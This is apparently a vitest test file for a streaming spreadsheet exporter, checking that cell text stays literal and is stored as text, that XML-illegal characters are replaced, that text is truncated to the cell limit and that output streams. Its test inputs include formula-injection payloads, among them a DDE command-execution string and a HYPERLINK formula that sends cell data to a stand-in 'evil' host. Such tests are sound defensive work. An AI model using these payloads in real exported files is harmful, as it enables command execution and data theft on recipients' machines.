import { strFromU8, unzipSync } from 'fflate'
import { JSDOM } from 'jsdom'
import { expect, test } from 'vitest'
import { toSpreadsheet } from './spreadsheet.ts'

const hostile = [
  '=1+1',
  'Budi;=1+1;x',
  'Halo;=cmd|/c calc!A0;y',
  'Halo\n=HYPERLINK("http://evil/?"&A1)',
  ';"=1+1;x',
  'satu,"",=2*3',
  'a\t=1\r\n+1\r@SUM(A1)',
  '＝1+1',
  '</t></is></c><c><f>1+1</f></c>',
  ']]>&lt;![CDATA[',
  '_x003D_1+1',
  'constructor',
  '__proto__',
]

test('keeps every text unchanged, in a cell of the type string', async () => {
  const rows = [['Nama', 'Pesan'], ...hostile.map((text) => ['Sari', text])]
  const { texts, markup } = await getSheet(rows)
  expect(texts).toEqual(rows)
  expect(markup).not.toMatch(/<f[\s>/]/)
})

test('formats every cell as text, so that editing it evaluates nothing', async () => {
  const { cells, styles } = await getSheet([['=1+1', '+62 812 0000']])
  expect(cells.map((cell) => cell.getAttribute('t'))).toEqual(['inlineStr', 'inlineStr'])
  const formats = [...styles.querySelectorAll('cellXfs > xf')]
  expect(formats.map((format) => format.getAttribute('numFmtId'))).toEqual(['49', '49'])
})

test('gives each fill a pattern, without which some programs read no cell', async () => {
  const { styles } = await getSheet([['Sari']])
  const patterns = [...styles.querySelectorAll('fill')].map((fill) =>
    fill.querySelector('patternFill')?.getAttribute('patternType'),
  )
  expect(patterns).toEqual(['none', 'gray125'])
})

test.for(['a\u0000b', 'a\u001Bb', 'a\uD800b', 'a\uFFFFb'])(
  'replaces the characters of %j that XML does not allow',
  async (text) => {
    expect((await getSheet([[text]])).texts).toEqual([['a\uFFFDb']])
  },
)

test('truncates a text to the limit of a cell', async () => {
  const { texts } = await getSheet([['x'.repeat(40_000)]])
  expect(texts[0]?.[0]).toHaveLength(32_767)
})

test('streams the first chunks before the last row is read', async () => {
  let read = 0
  async function* rows() {
    // The text is random, so it does not compress into one chunk.
    for (; read < 200; read += 1) {
      yield [Array.from({ length: 5_000 }, () => Math.random().toString(36).at(-1)).join('')]
    }
  }
  const pieces = toSpreadsheet(rows())
  let bytes = 0
  while (bytes < 100_000) bytes += (await pieces.next()).value?.byteLength ?? 100_000
  expect(read).toBeLessThan(200)
})

async function getSheet(rows: string[][]) {
  const pieces: Uint8Array[] = []
  for await (const piece of toSpreadsheet(rows)) pieces.push(piece)
  const files = unzipSync(Buffer.concat(pieces))
  const documents = Object.entries(files).map(([path, bytes]) => {
    return [path, getDocument(path, strFromU8(bytes))] as const
  })
  const [sheet, styles] = ['xl/worksheets/sheet1.xml', 'xl/styles.xml'].map((path) => {
    const content = documents.find(([name]) => name === path)?.[1]
    if (!content) throw new Error(`There is no ${path}.`)
    return content
  })
  if (!sheet || !styles) throw new Error('There is no sheet.')
  return {
    styles,
    cells: [...sheet.querySelectorAll('c')],
    markup: strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array()),
    texts: [...sheet.querySelectorAll('row')].map((row) =>
      [...row.querySelectorAll('c')].map((cell) =>
        (cell.querySelector('is > t')?.textContent ?? '').replaceAll('_x005F_', '_'),
      ),
    ),
  }
}

function getDocument(path: string, xml: string): Document {
  try {
    return new JSDOM(xml, { contentType: 'text/xml' }).window.document
  } catch (error) {
    return expect.fail(`${path} is not well-formed: ${error}`)
  }
}
